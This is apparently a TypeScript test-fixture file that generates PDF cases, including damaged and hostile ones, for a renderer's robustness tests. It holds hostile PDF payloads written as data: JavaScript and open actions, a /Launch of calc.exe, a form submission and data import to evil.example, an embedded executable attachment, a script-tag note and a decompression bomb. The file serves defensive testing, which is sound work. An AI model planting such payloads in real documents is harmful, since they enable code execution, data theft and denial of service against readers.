import { deflateSync } from 'node:zlib';
import { scannedPdf } from '../scans.ts';
import { type Case, namedCase, RUN } from './case.ts';
import { PdfWriter, pdfOf } from './pdf-writer.ts';

const drawn = (bytes: Buffer) => ({ bytes, outcome: 'drawn' }) as const;
const refused = (bytes: Buffer) => ({ bytes, outcome: 'refused' }) as const;

type Page = Readonly<{ resources?: string; contents?: string; box?: string; more?: string; catalog?: string }>;

/** A document of one page, with objects that `add` makes first. */
function pageOf(make: (writer: PdfWriter) => Page): Buffer {
  const writer = new PdfWriter();
  const tree = writer.reserve();
  const {
    resources = '',
    contents = '0 g 20 20 100 100 re f',
    box = '[0 0 200 200]',
    more = '',
    catalog = '',
  } = make(writer);
  const content = writer.stream('', Buffer.from(contents, 'latin1'));
  const page = writer.add(
    `<< /Type /Page /Parent ${tree} 0 R /MediaBox ${box} /Resources << ${resources} >> /Contents ${content} 0 R ${more} >>`,
  );
  writer.set(tree, `<< /Type /Pages /Count 1 /Kids [${page} 0 R] >>`);
  return writer.written(writer.add(`<< /Type /Catalog /Pages ${tree} 0 R ${catalog} >>`));
}

const FONTS = [
  'Helvetica',
  'Helvetica-Bold',
  'Helvetica-Oblique',
  'Helvetica-BoldOblique',
  'Times-Roman',
  'Times-Bold',
  'Times-Italic',
  'Times-BoldItalic',
  'Courier',
  'Courier-Bold',
  'Courier-Oblique',
  'Courier-BoldOblique',
  'Symbol',
  'ZapfDingbats',
  'NoSuchFont',
];

const inFont = (name: string): Buffer =>
  pageOf((writer) => {
    const font = writer.add(`<< /Type /Font /Subtype /Type1 /BaseFont /${name} >>`);
    return { resources: `/Font << /F ${font} 0 R >>`, contents: 'BT /F 36 Tf 10 100 Td (abcABC) Tj ET' };
  });

/** Collections of Adobe, an encoding of each, and a text in UCS-2. */
const ASIAN = [
  ['Chinese, simplified', 'GB1', 'UniGB-UCS2-H', '5408540C'],
  ['Chinese, traditional', 'CNS1', 'UniCNS-UCS2-H', '5408540C'],
  ['Japanese', 'Japan1', 'UniJIS-UCS2-H', '59517D04'],
  ['Japanese, vertical', 'Japan1', 'UniJIS-UCS2-V', '59517D04'],
  ['Korean', 'Korea1', 'UniKS-UCS2-H', 'ACC4C57D'],
] as const;

const inAsian = (ordering: string, encoding: string, text: string): Buffer =>
  pageOf((writer) => {
    const described = writer.add(
      '<< /Type /FontDescriptor /FontName /NotThere /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
    );
    const characters = writer.add(
      `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /NotThere /CIDSystemInfo << /Registry (Adobe) /Ordering (${ordering}) /Supplement 2 >> /FontDescriptor ${described} 0 R >>`,
    );
    const font = writer.add(
      `<< /Type /Font /Subtype /Type0 /BaseFont /NotThere /Encoding /${encoding} /DescendantFonts [${characters} 0 R] >>`,
    );
    return { resources: `/Font << /F ${font} 0 R >>`, contents: `BT /F 60 Tf 60 120 Td <${text}> Tj ET` };
  });

type Picture = Readonly<{ filter?: string; colors?: string; bits?: number; bytes: Buffer }>;

/** A page that is an image of 8 by 8 pixels. */
const image = ({ filter = '', colors = '/DeviceGray', bits = 8, bytes }: Picture): Buffer =>
  pageOf((writer) => {
    const made = writer.stream(
      `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace ${colors} /BitsPerComponent ${bits} ${filter}`,
      bytes,
    );
    return { resources: `/XObject << /I ${made} 0 R >>`, contents: 'q 200 0 0 200 0 0 cm /I Do Q' };
  });

/** Rows of which the first half is 0 and the second 255. */
const half = (bytes: number): Buffer => Buffer.concat([Buffer.alloc(bytes / 2, 0), Buffer.alloc(bytes / 2, 255)]);
const hexOf = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`);

const PICTURES: Readonly<Record<string, Picture>> = {
  'grey of 1 bit': { bits: 1, bytes: half(8) },
  'grey of 2 bits': { bits: 2, bytes: half(16) },
  'grey of 4 bits': { bits: 4, bytes: half(32) },
  'grey of 16 bits': { bits: 16, bytes: half(128) },
  'three colours': { colors: '/DeviceRGB', bytes: half(192) },
  'four colours of printers': { colors: '/DeviceCMYK', bytes: half(256) },
  palette: {
    colors: '[/Indexed /DeviceRGB 255 <000000FFFFFF>]',
    bytes: Buffer.concat([Buffer.alloc(32, 0), Buffer.alloc(32, 1)]),
  },
  deflated: { filter: '/Filter /FlateDecode', bytes: deflateSync(half(64)) },
  'as hexadecimal digits': { filter: '/Filter /ASCIIHexDecode', bytes: hexOf(half(64)) },
  'as base 85': { filter: '/Filter /ASCII85Decode', bytes: Buffer.from(`${'z'.repeat(8)}${'s8W-!'.repeat(8)}~>`) },
  'as lengths of runs': { filter: '/Filter /RunLengthDecode', bytes: Buffer.from([225, 0, 225, 255, 128]) },
  'deflated twice': { filter: '/Filter [/FlateDecode /FlateDecode]', bytes: deflateSync(deflateSync(half(64))) },
};

const BROKEN_PICTURES: Readonly<Record<string, string>> = {
  'JPEG that is none': '/DCTDecode',
  'JPEG 2000 that is none': '/JPXDecode',
};

/** A page with an annotation that a person might press. */
const withLink = (action: string): Buffer =>
  pageOf((writer) => {
    const link = writer.add(`<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << ${action} >> >>`);
    return { more: `/Annots [${link} 0 R]` };
  });

const script = RUN.replaceAll(/[()\\]/g, String.raw`\$&`);
const ACTIONS: Readonly<Record<string, string>> = {
  'a link elsewhere': '/S /URI /URI (https://evil.example/)',
  'a link with a script': `/S /URI /URI (javascript:${script})`,
  'a script': `/S /JavaScript /JS (${script})`,
  'a program': '/S /Launch /F (calc.exe)',
  'another document': '/S /GoToR /F (https://evil.example/x.pdf) /D [0 /Fit]',
  'a form that is sent': '/S /SubmitForm /F (https://evil.example/) /Flags 4',
  'data that is fetched': '/S /ImportData /F (https://evil.example/x.fdf)',
};

const whole = pdfOf({ pages: [{ text: 'A whole page' }] });

/** Documents that damage, malice or old programs made. */
const broken = (): Readonly<Record<string, Omit<Case, 'name'>>> => ({
  'without its table': drawn(Buffer.from(whole.toString('latin1').replace(/xref[\s\S]*?(?=trailer)/, ''), 'latin1')),
  'without its table and its trailer': refused(
    Buffer.from(whole.toString('latin1').replace(/xref[\s\S]*$/, ''), 'latin1'),
  ),
  'with a wrong place of its table': drawn(
    Buffer.from(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1'),
  ),
  'with noise before it': drawn(Buffer.concat([Buffer.from('noise\n'.repeat(50)), whole])),
  'with noise after it': drawn(Buffer.concat([whole, Buffer.alloc(5000, 10)])),
  'cut off in its middle': refused(whole.subarray(0, 120)),
  'only its first line': refused(Buffer.from('%PDF-1.7\n')),
  empty: refused(Buffer.alloc(0)),
  'a page of HTML': refused(Buffer.from(`<html><script>${RUN}</script></html>`)),
  noise: refused(Buffer.alloc(20_000, 0x5a)),
  'without pages': refused(
    Buffer.from(
      whole
        .toString('latin1')
        .replace('/Count 1', '/Count 0')
        .replace(/\/Kids \[[^\]]*\]/, '/Kids []'),
      'latin1',
    ),
  ),
  'without a catalog': refused(
    Buffer.from(whole.toString('latin1').replace('/Type /Catalog /Pages', '/Type /Nothing /Pags'), 'latin1'),
  ),
  'pages that hold themselves': refused(
    (() => {
      const writer = new PdfWriter();
      const tree = writer.reserve();
      writer.set(tree, `<< /Type /Pages /Count 5 /Kids [${tree} 0 R] /Parent ${tree} 0 R >>`);
      return writer.written(writer.add(`<< /Type /Catalog /Pages ${tree} 0 R >>`));
    })(),
  ),
  'a drawing that holds itself': drawn(
    pageOf((writer) => {
      const form = writer.reserve();
      const own = Buffer.from('0 g 0 0 50 50 re f /X Do');
      writer.set(
        form,
        `<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X ${form} 0 R >> >> /Length ${own.length} >>\nstream\n`,
        own,
        '\nendstream',
      );
      return { resources: `/XObject << /X ${form} 0 R >>`, contents: '0 g 90 90 50 50 re f /X Do' };
    }),
  ),
  'a length that is wrong': drawn(Buffer.from(whole.toString('latin1').replace(/\/Length \d+/, '/Length 3'), 'latin1')),
  'a huge page': drawn(pageOf(() => ({ box: '[0 0 14400 14400]', contents: '0 g 0 0 7000 7000 re f' }))),
  'a page without size': drawn(pageOf(() => ({ box: '[0 0 0 0]' }))),
  'a deflated drawing of a hundred million bytes': drawn(
    (() => {
      const writer = new PdfWriter();
      const tree = writer.reserve();
      const packed = deflateSync(
        Buffer.concat([Buffer.from('0 g 20 20 100 100 re f\n'), Buffer.alloc(100_000_000, 10)]),
        { level: 9 },
      );
      const content = writer.stream('/Filter /FlateDecode', packed);
      const page = writer.add(
        `<< /Type /Page /Parent ${tree} 0 R /MediaBox [0 0 200 200] /Resources << >> /Contents ${content} 0 R >>`,
      );
      writer.set(tree, `<< /Type /Pages /Count 1 /Kids [${page} 0 R] >>`);
      return writer.written(writer.add(`<< /Type /Catalog /Pages ${tree} 0 R >>`));
    })(),
  ),
  'deeply nested lists': drawn(pageOf(() => ({ more: `/Nested ${'['.repeat(400)}${']'.repeat(400)}` }))),
});

const TURNS = [0, 90, 180, 270];

/** PDFs, as scanners, offices and attackers make them. */
export const pdfs = (): readonly Case[] =>
  namedCase('pdf', {
    'scans of each compression': drawn(scannedPdf()),
    'many pages': drawn(
      pdfOf({ pages: Array.from({ length: 600 }, (_, index) => ({ text: `Page ${index + 1}` })), outline: true }),
    ),
    'locked by a password': {
      bytes: pdfOf({ pages: [{ text: 'x' }], password: 'sesam' }),
      outcome: 'password',
      says: 'asks for its password',
    },
    'encrypted without a password': drawn(pdfOf({ pages: [{ text: 'open' }], password: '' })),
    ...Object.fromEntries(FONTS.map((name) => [`in ${name}`, drawn(inFont(name))])),
    ...Object.fromEntries(
      ASIAN.map(([name, ordering, encoding, content]) => [`in ${name}`, drawn(inAsian(ordering, encoding, content))]),
    ),
    ...Object.fromEntries(
      TURNS.map((turn) => [`turned by ${turn}`, drawn(pageOf(() => ({ more: `/Rotate ${turn}` })))]),
    ),
    ...Object.fromEntries(Object.entries(PICTURES).map(([name, one]) => [`image, ${name}`, drawn(image(one))])),
    ...Object.fromEntries(
      Object.entries(BROKEN_PICTURES).map(([name, filter]) => [
        `image, ${name}`,
        {
          ...refused(image({ filter: `/Filter ${filter}`, bytes: Buffer.from('no image') })),
          says: 'looks empty',
        },
      ]),
    ),
    ...Object.fromEntries(Object.entries(ACTIONS).map(([name, action]) => [`with ${name}`, drawn(withLink(action))])),
    'a script when it opens': drawn(pageOf(() => ({ catalog: `/OpenAction << /S /JavaScript /JS (${script}) >>` }))),
    'scripts by name': drawn(
      pageOf(() => ({ catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>` })),
    ),
    'a form with values': drawn(
      pageOf((writer) => {
        const font = writer.add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
        const look = writer.stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 150 30] /Resources << /Font << /F ${font} 0 R >> >>`,
          Buffer.from('/Tx BMC BT /F 18 Tf 4 8 Td (4711 EUR) Tj ET EMC'),
        );
        const field = writer.add(
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (price) /V (4711 EUR) /Rect [20 100 170 130] /AP << /N ${look} 0 R >> /AA << /F << /S /JavaScript /JS (${script}) >> >> >>`,
        );
        return { contents: '', more: `/Annots [${field} 0 R]`, catalog: `/AcroForm << /Fields [${field} 0 R] >>` };
      }),
    ),
    'a note': drawn(
      pageOf((writer) => {
        const note = writer.add(
          `<< /Type /Annot /Subtype /Text /Name /..#2F..#2Fapi#2Fv1#2Frooms#3F /Rect [150 150 170 170] /Contents (<script>${script}</script>) >>`,
        );
        return { more: `/Annots [${note} 0 R]` };
      }),
    ),
    'an attachment': drawn(
      pageOf((writer) => {
        const file = writer.stream('/Type /EmbeddedFile', Buffer.from('MZ'));
        const spec = writer.add(`<< /Type /Filespec /F (run.exe) /EF << /F ${file} 0 R >> >>`);
        const annotation = writer.add(`<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS ${spec} 0 R >>`);
        return { more: `/Annots [${annotation} 0 R]` };
      }),
    ),
    'a transparent drawing': drawn(
      pageOf((writer) => {
        const state = writer.add('<< /Type /ExtGState /ca 0.4 /BM /Multiply >>');
        return { resources: `/ExtGState << /G ${state} 0 R >>`, contents: '/G gs 1 0 0 rg 20 20 120 120 re f' };
      }),
    ),
    'a gradient': drawn(
      pageOf((writer) => {
        const shading = writer.add(
          '<< /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 200 0] /Function << /FunctionType 2 /Domain [0 1] /C0 [1 0 0] /C1 [0 0 1] /N 1 >> >>',
        );
        return { resources: `/Shading << /S ${shading} 0 R >>`, contents: '/S sh' };
      }),
    ),
    ...broken(),
  });
